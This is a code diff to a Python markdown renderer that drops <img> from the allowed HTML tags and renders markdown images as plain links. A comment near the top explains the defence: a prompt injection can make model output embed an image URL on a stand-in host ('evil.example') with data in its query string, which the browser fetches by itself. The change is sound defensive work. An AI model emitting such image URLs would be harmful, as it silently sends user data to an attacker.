@@ -8,6 +8,7 @@ renderer let something through.
 from __future__ import annotations
 
 from functools import cache
+from typing import Any
 
 import nh3
 from django.utils.html import escape
@@ -17,13 +18,14 @@ from pygments.formatters import HtmlFormatter
 from pygments.lexers import get_lexer_by_name
 from pygments.util import ClassNotFound
 
+# No <img>: a browser fetches an image from any host by itself, so an image in model output (a prompt injection's
+# ``![x](https://evil.example/p.png?leak=…)``) or in a notice would send data away. Images become links instead.
 ALLOWED_TAGS = {
     "p", "br", "hr", "em", "strong", "del", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a",
-    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "span", "div", "img",
+    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "span", "div",
 }  # fmt: skip
 ALLOWED_ATTRIBUTES = {
     "a": {"href", "title"},
-    "img": {"src", "alt", "title"},
     "span": {"class"},
     "div": {"class"},
     "code": {"class"},
@@ -45,10 +47,19 @@ def _highlight(code: str, lang: str, attrs: str) -> str:
     return highlight(code, lexer, _FORMATTER)
 
 
+def _image_as_link(self: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
+    """``![alt](url)`` as a link the person may choose to open, never an image the browser fetches by itself."""
+    token = tokens[idx]
+    src = str(token.attrGet("src") or "")
+    alt = self.renderInlineAsText(token.children or [], options, env) or src
+    return f'<a href="{escape(src)}" title="{escape(src)}">🖼 {escape(alt)}</a>'
+
+
 @cache
 def _markdown() -> MarkdownIt:
     md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False, "highlight": _highlight})
     md.enable(["table", "strikethrough"])
+    md.add_render_rule("image", _image_as_link)
     return md
 
 
